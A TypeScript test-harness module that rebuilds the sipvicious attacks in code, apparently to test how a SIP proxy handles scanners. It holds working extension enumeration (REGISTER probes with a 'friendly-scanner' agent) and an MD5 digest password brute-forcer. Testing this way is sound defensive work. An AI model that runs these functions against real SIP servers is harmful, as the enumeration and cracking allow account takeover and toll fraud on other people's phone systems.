/**
 * sipvicious' two attacks, rebuilt from its message shapes (sipvicious is not packaged in
 * Debian bookworm and PyPI is out of reach here): raw UDP from the test process.
 *
 *  - svwar (extension enumeration): a REGISTER per extension, To/From = the extension, R-URI
 *    `sip:EXT@HOST`, `User-Agent: friendly-scanner`; an extension whose answer differs from the
 *    answer for a surely-missing one (status, reason, headers) is "found".
 *  - svcrack (password cracking): REGISTER for one extension, then one REGISTER per guessed
 *    password answering the latest challenge (MD5, RFC 2069 style without qop as svcrack
 *    does), taking the fresh nonce of each 401 for the next guess; a 200 means "cracked".
 */
import { createHash, randomBytes } from 'node:crypto';
import { UdpEndpoint, type ReceivedDatagram } from '../harness/index.js';

function hex(n: number): string {
  return randomBytes(n).toString('hex');
}

function md5(s: string): string {
  return createHash('md5').update(s).digest('hex');
}

export interface ProbeAnswer {
  status: number;
  reason: string;
  /** What svwar compares: status, reason, header names in order, the challenge without its nonce. */
  shape: string;
}

function register(ep: UdpEndpoint, host: string, ext: string, ua: string, callId: string, cseq: number, authorization?: string): string {
  return [
    `REGISTER sip:${ext}@${host} SIP/2.0`,
    `Via: SIP/2.0/UDP ${ep.address}:${ep.port};branch=z9hG4bK-${hex(8)};rport`,
    'Max-Forwards: 70',
    `To: "${ext}"<sip:${ext}@${host}>`,
    `From: "${ext}"<sip:${ext}@${host}>;tag=${hex(8)}`,
    `User-Agent: ${ua}`,
    `Call-ID: ${callId}`,
    `Contact: sip:${ext}@${ep.address}:${ep.port}`,
    `CSeq: ${cseq} REGISTER`,
    ...(authorization ? [`Authorization: ${authorization}`] : []),
    'Accept: application/sdp',
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n');
}

function answerOf(d: ReceivedDatagram): ProbeAnswer {
  const m = d.message;
  const text = d.data.toString('latin1');
  const head = text.slice(0, text.indexOf('\r\n\r\n'));
  const lines = head.split('\r\n');
  const [, code, ...reason] = lines[0]!.split(' ');
  const names = lines.slice(1).map((l) => l.slice(0, l.indexOf(':')).trim().toLowerCase());
  const challenge = (m.header('www-authenticate') ?? '').replace(/nonce="[^"]*"/, 'nonce=N');
  return { status: Number(code), reason: reason.join(' '), shape: `${code} ${reason.join(' ')} | ${names.join(',')} | ${challenge}` };
}

function callIdOf(d: ReceivedDatagram): string | undefined {
  return d.message.header('call-id');
}

/**
 * svwar against `host:port` from `localAddress`: one REGISTER per extension, all sent, then a
 * barrier OPTIONS (no scanner UA) whose answer proves every probe before it was handled;
 * probes still unanswered then got no answer at all (null).
 */
export async function svwar(o: { host: string; port: number; domain: string; extensions: readonly string[]; userAgent: string; localAddress: string }): Promise<Map<string, ProbeAnswer | null>> {
  const ep = await UdpEndpoint.open(o.localAddress);
  try {
    const ids = new Map<string, string>();
    for (const ext of o.extensions) {
      const callId = hex(16);
      ids.set(ext, callId);
      await ep.send(register(ep, o.domain, ext, o.userAgent, callId, 1), o.host, o.port);
    }
    // Every probe is answered (or dropped) before the barrier: one socket, handled in order.
    for (const ext of o.extensions) await ep.waitFor((d) => callIdOf(d) === ids.get(ext) && (d.message.status ?? 0) >= 200, 300);
    const barrier = `barrier-${hex(8)}`;
    await ep.send(
      [
        `OPTIONS sip:${o.host}:${o.port} SIP/2.0`,
        `Via: SIP/2.0/UDP ${ep.address}:${ep.port};branch=z9hG4bK-${hex(8)};rport`,
        'Max-Forwards: 70',
        `From: <sip:probe@${ep.address}>;tag=${hex(4)}`,
        `To: <sip:${o.host}:${o.port}>`,
        `Call-ID: ${barrier}`,
        'CSeq: 1 OPTIONS',
        'Content-Length: 0',
        '',
        '',
      ].join('\r\n'),
      o.host,
      o.port,
    );
    if ((await ep.waitFor((d) => callIdOf(d) === barrier, 5_000)) === null) throw new Error('svwar: the proxy did not answer the barrier OPTIONS');
    const out = new Map<string, ProbeAnswer | null>();
    for (const ext of o.extensions) {
      const d = ep.received.find((x) => callIdOf(x) === ids.get(ext) && (x.message.status ?? 0) >= 200);
      out.set(ext, d ? answerOf(d) : null);
    }
    return out;
  } finally {
    await ep.close();
  }
}

export interface SvcrackRun {
  /** The status that answered each guess, in order (null: no answer in time). */
  answers: (number | null)[];
  /** The password that got a 200, if any. */
  cracked: string | null;
}

/** svcrack against one extension with `passwords` in order; stops at the first 200. */
export async function svcrack(o: { host: string; port: number; domain: string; extension: string; passwords: readonly string[]; userAgent: string; localAddress: string }): Promise<SvcrackRun> {
  const ep = await UdpEndpoint.open(o.localAddress);
  const callId = hex(16);
  let cseq = 1;
  const next = async (authorization?: string): Promise<ReceivedDatagram | null> => {
    const from = ep.received.length;
    const seq = cseq++;
    await ep.send(register(ep, o.domain, o.extension, o.userAgent, callId, seq, authorization), o.host, o.port);
    return ep.waitFor((d) => callIdOf(d) === callId && new RegExp(`^${seq} `).test(d.message.header('cseq') ?? '') && (d.message.status ?? 0) >= 200, 3_000, from);
  };
  try {
    let last = await next();
    const answers: (number | null)[] = [];
    for (const password of o.passwords) {
      const challenge = last?.message.header('www-authenticate') ?? null;
      let authorization: string | undefined;
      if (challenge !== null) {
        const realm = /realm="([^"]*)"/.exec(challenge)?.[1] ?? o.domain;
        const nonce = /nonce="([^"]*)"/.exec(challenge)?.[1] ?? '';
        const uri = `sip:${o.domain}`;
        const response = md5(`${md5(`${o.extension}:${realm}:${password}`)}:${nonce}:${md5(`REGISTER:${uri}`)}`);
        authorization = `Digest username="${o.extension}", realm="${realm}", nonce="${nonce}", uri="${uri}", response="${response}", algorithm=MD5`;
      }
      const r = await next(authorization);
      const status = r?.message.status ?? null;
      answers.push(status);
      if (status === 200) return { answers, cracked: password };
      // A 401 carries the next nonce; after a 403 svcrack keeps the last challenge it had.
      if (status === 401) last = r;
    }
    return { answers, cracked: null };
  } finally {
    await ep.close();
  }
}
